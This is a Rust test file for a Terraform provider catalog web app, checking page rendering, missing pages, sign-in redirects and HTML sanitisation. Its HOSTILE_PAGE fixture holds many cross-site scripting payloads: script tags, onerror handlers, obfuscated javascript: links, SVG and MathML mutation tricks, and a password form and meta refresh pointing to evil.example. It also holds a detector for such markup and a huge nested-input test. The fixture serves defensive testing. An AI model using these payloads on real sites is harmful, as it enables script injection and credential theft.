//! The catalog browser, page by page.

use cloudoven_tests::{
    Database, TestApp,
    catalog::{import, import_acme, import_next_acme},
    on_both_databases,
};
use scraper::{Html, Selector};
use serde_json::json;

on_both_databases!(
    pages_answer,
    everything_known_is_shown,
    hostile_pages_are_harmless,
    what_is_huge_or_nested_is_cut,
    nobody_sees_it_without_signing_in
);

const ACME: &str = "/catalog/registry.terraform.io/hashicorp/acme/1.2.3";

async fn pages_answer(database: Database) {
    let server = TestApp::start(database).await;
    let ann = server.user("ann").await;
    let (status, empty) = ann.page("/catalog").await;
    assert_eq!(status, 200);
    assert!(
        empty.contains("href=\"/settings/providers\""),
        "an administrator is led to where providers are added"
    );
    let (_, others) = server.user("bob").await.page("/catalog").await;
    assert!(others.contains("Ask an administrator") && !others.contains("/settings/providers"), "{others}");

    import_acme(&server.app).await;
    let (_, list) = ann.page("/catalog").await;
    assert!(list.contains("hashicorp/acme") && list.contains("1.2.3"));
    let (_, provider) = ann.page(ACME).await;
    assert!(provider.contains("Compute") && provider.contains("1 data source"), "{provider}");
    let (_, server_page) = ann.page(&format!("{ACME}/resource/acme_server")).await;
    let large = "<code class=\"value\">large</code>";
    for expected in
        ["id=\"arg-disk.gigabytes\"", "list of blocks, 1 to 2", large, "acme_network.id", "list(number)"]
    {
        assert!(server_page.contains(expected), "{expected} in {server_page}");
    }
    let (_, network_page) = ann.page(&format!("{ACME}/resource/acme_network")).await;
    assert!(network_page.contains("forces replacement"), "{network_page}");
    let (_, found) = ann.page("/catalog/search?q=server").await;
    assert!(found.contains("/resource/acme_server"));
    let (status, _) = ann.page("/catalog/registry.terraform.io/hashicorp/acme").await;
    assert_eq!(status, 200, "without a version the newest is shown");

    for missing in
        ["/catalog/registry.terraform.io/hashicorp/none", "/catalog/a/b/c/1.0.0", "/catalog/nowhere"]
    {
        assert_eq!(ann.page(missing).await.0, 404, "{missing}");
    }
    for missing in [
        "resource/none",
        "function/acme_server",
        "data-source/acme_server",
        "resource/acme_server?block=none",
    ] {
        assert_eq!(ann.page(&format!("{ACME}/{missing}")).await.0, 404, "{missing}");
    }
    let (status, disk) = ann.page(&format!("{ACME}/resource/acme_server?block=disk")).await;
    assert_eq!(status, 200);
    assert!(disk.contains("arg-disk.kind") && !disk.contains("arg-network_id"));
}

/// Every fact of the richer version stands on its page.
async fn everything_known_is_shown(database: Database) {
    let server = TestApp::start(database).await;
    let ann = server.user("ann").await;
    import_acme(&server.app).await;
    import_next_acme(&server.app).await;
    let next = "/catalog/registry.terraform.io/hashicorp/acme/2.0.0";
    let (_, html) = ann.page(&format!("{next}/resource/acme_server")).await;
    for expected in [
        "class=\"callout warn\"",
        "A server without a disk can",
        "list of blocks, 1 to 4",
        "deprecated",
        "sensitive",
        "forces replacement",
        "href=\"#arg-disk.kind\"",
        "data-copy-link",
        "<span class=\"h-type\">acme_server</span>",
        "/resource/acme_server/examples/1/add",
        "href=\"/catalog/registry.terraform.io/hashicorp/acme/2.0.0/resource/acme_network\"",
        "terraform import acme_server.web srv-1",
        "href=\"https://example.com/guide\" rel=\"noopener noreferrer nofollow\"",
        &format!("{ACME}/diff/2.0.0?q=acme_server"),
    ] {
        assert!(html.contains(expected), "{expected} in {html}");
    }
    let (_, network) = ann.page(&format!("{next}/resource/acme_network")).await;
    assert!(network.contains("data-source/acme_network"), "{network}");
    let (_, firewall) = ann.page(&format!("{next}/resource/acme_firewall")).await;
    assert!(
        firewall.contains("id=\"arg-rule.target.cidr\""),
        "attributes of objects have their place: {firewall}"
    );
    assert!(firewall.contains("without this resource"), "the switcher says which version lacks it");
    let (_, function) = ann.page(&format!("{next}/function/shout")).await;
    assert!(function.contains("shout") && function.contains("any number"), "{function}");
    let (_, found) = ann.page(&format!("{next}/resource/acme_firewall?find=cidr")).await;
    assert!(found.contains("href=\"#arg-rule.target.cidr\"") && !found.contains("<html"), "{found}");
    let (_, list) = ann.page(&format!("{next}?kind=function&q=shout")).await;
    assert!(list.contains("id=\"category-network\"") && list.contains("value=\"shout\""));
}

/// A provider's author writes the documentation, and nobody here vouches for them.
async fn hostile_pages_are_harmless(database: Database) {
    let server = TestApp::start(database).await;
    let ann = server.user("ann").await;
    import_hostile(&server).await;
    let base = "/catalog/registry.terraform.io/evil/evil/1.0.0";
    for path in ["/catalog".to_owned(), base.to_owned(), format!("{base}/resource/evil_thing")] {
        let (status, html) = ann.page(&path).await;
        assert_eq!(status, 200);
        assert_eq!(dangers(&html), Vec::<String>::new(), "{path}");
    }
    let (_, html) = ann.page(&format!("{base}/resource/evil_thing")).await;
    assert!(html.contains("a harmless word"), "the text itself stays");
    assert!(html.contains("rel=\"noopener noreferrer nofollow\""), "links lead away safely: {html}");
}

/// What on a page could act or fetch without being ours, as a browser would parse it.
fn dangers(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let all = Selector::parse("*").expect("a valid selector");
    let foreign = |value: &str| !value.starts_with('/') && !value.starts_with('#');
    let dangerous = |element: &scraper::ElementRef| {
        let value = element.value();
        let acts = value.attrs().any(|(name, value)| {
            let hidden: String = value.to_lowercase().chars().filter(|c| !c.is_whitespace()).collect();
            name.starts_with("on") || name == "style" || hidden.contains("script:")
        });
        let fetches = value.attr("src").is_some_and(foreign);
        let unwanted = ["img", "iframe", "style", "object", "embed", "base", "math", "template", "animate"];
        let unwanted = unwanted.contains(&value.name());
        let ours = element.ancestors().any(|a| {
            a.value()
                .as_element()
                .is_some_and(|e| e.has_class("prose", scraper::CaseSensitivity::AsciiCaseInsensitive))
        });
        let unwanted = unwanted
            || ours && (value.id().is_some() || value.attrs().any(|(name, _)| name.starts_with("hx-")));
        let inline = value.name() == "script" && value.attr("src").is_none();
        acts || fetches || unwanted || inline
    };
    page.select(&all).filter(dangerous).map(|e| e.html()).collect()
}

async fn import_hostile(server: &TestApp) {
    import_evil(server, HOSTILE_PAGE).await;
}

async fn import_evil(server: &TestApp, page: &str) {
    let attribute = json!({"type": "string", "optional": true});
    let names = ["name", "svg", "meta", "frame", "mutation"];
    let attributes: serde_json::Map<_, _> =
        names.map(|name| (name.to_owned(), attribute.clone())).into_iter().collect();
    let schema = json!({"format_version": "1.0", "provider_schemas": {"registry.terraform.io/evil/evil": {
        "resource_schemas": {"evil_thing": {"version": 0, "block": {"attributes": attributes}}}}}});
    import(&server.app, "evil/evil", "1.0.0", &schema.to_string(), &[("resources/thing.md", page)]).await;
}

const HOSTILE_PAGE: &str = r##"---
subcategory: "<script>alert(1)</script>"
description: <script>alert(2)</script> and <img src=x onerror=alert(3)>
---

# evil_thing

a harmless word <script>alert(4)</script> <iframe src="https://tracker.example/"></iframe>
[press](javascript:alert(5)) [away](https://example.com/) ![](https://tracker.example/pixel.png)

## Example Usage

```terraform
resource "evil_thing" "</code></pre><script>alert(9)</script>" {
  name = "${"<img src=x onerror=alert(10)>"}"
}
```

## Argument Reference

* `name` - (Optional) <img src=x onerror="alert(6)"> <b onclick="alert(7)">bold</b> <style>*{display:none}</style>
  [more](JaVaScRiPt:alert(8)) ![](https://tracker.example/again.png) [d](data:text/html;base64,PHNjcmlwdD4=)
  [v](vbscript:x) [t](java&#x09;script:alert(1)) <a href="java	script:alert(1)">u</a> <a href="//evil.example">w</a>
* `svg` - (Optional) <svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>
  <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
* `meta` - (Optional) <meta http-equiv="refresh" content="0;url=https://evil.example"> <base href="https://evil.example/">
  <link rel=stylesheet href="https://evil.example/x.css"> <form action="https://evil.example"><input name=password><button>Go</button></form>
* `frame` - (Optional) <object data="x"></object><embed src="x"><iframe srcdoc="<script>alert(1)</script>"></iframe>
* `mutation` - (Optional) <noscript><p title="</noscript><img src=x onerror=alert(1)>"> <template><script>alert(1)</script></template>
  <p style="position:fixed;inset:0" id="main" class="toasts">over everything</p> <!--><img src=x onerror=alert(1)>-->
  <div hx-get="/account" hx-trigger="load" data-copy="x">htmx</div>
"##;

/// Text that would be slow, were any step of rendering it not linear, and too long to be shown in full.
async fn what_is_huge_or_nested_is_cut(database: Database) {
    let server = TestApp::start(database).await;
    let ann = server.user("ann").await;
    let nested = ["<div>", "<b>", "> ", "<table><tr><td>", "[", "<svg><math>"];
    let bullets = nested.map(|open| format!("* `name` - (Optional) {}\n", open.repeat(100_000 / open.len())));
    let long = "word ".repeat(600_000);
    let page = format!("# evil_thing\n\n{long}\n\n## Argument Reference\n\n{}", bullets.join(""));
    import_evil(&server, &page).await;
    let (status, html) = ann.page("/catalog/registry.terraform.io/evil/evil/1.0.0/resource/evil_thing").await;
    assert_eq!(status, 200);
    assert!(html.len() < 2_000_000, "the page is {} bytes", html.len());
    assert_eq!(dangers(&html), Vec::<String>::new());
}

async fn nobody_sees_it_without_signing_in(database: Database) {
    let server = TestApp::start(database).await;
    import_acme(&server.app).await;
    let answer = reqwest::get(server.url(ACME)).await.expect("the server answers");
    assert_eq!(answer.url().path(), "/sign-up", "a stranger is led to the first page");
}
